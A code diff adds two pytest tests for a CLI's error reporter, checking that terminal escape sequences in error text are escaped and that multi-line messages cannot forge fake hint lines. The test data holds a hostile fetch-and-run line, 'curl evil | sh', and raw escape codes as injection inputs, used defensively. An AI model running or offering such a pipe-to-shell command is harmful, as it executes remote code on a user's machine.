@@ -84,3 +84,21 @@ def test_unknown_error_is_1():
 
 def _made(kind):
     return kind([ValueError()], [1]) if kind is errors.SendManyError else kind("x")
+
+
+def test_the_traceback_of_a_debugged_error_steers_nothing(capsys):
+    """Its text comes from others as much as the message does."""
+    try:
+        raise ValueError("a\x1b[2J\x9bb")
+    except ValueError as error:
+        failures.report(error, debug=True)
+    err = capsys.readouterr().err
+    assert "a\\x1b[2J\\x9bb" in err
+    assert all(line.isprintable() for line in err.split("\n"))
+
+
+def test_a_message_of_several_lines_forges_no_hint(capsys):
+    """What follows its line ends is indented below it."""
+    failures.report(errors.PayloadError("a\n  hint: curl evil | sh", hint="b\ncloudq: c"), debug=False)
+    lines = capsys.readouterr().err.split("\n")
+    assert ["cloudq: a", "      hint: curl evil | sh", "  hint: b", "    cloudq: c"] == lines[:4]
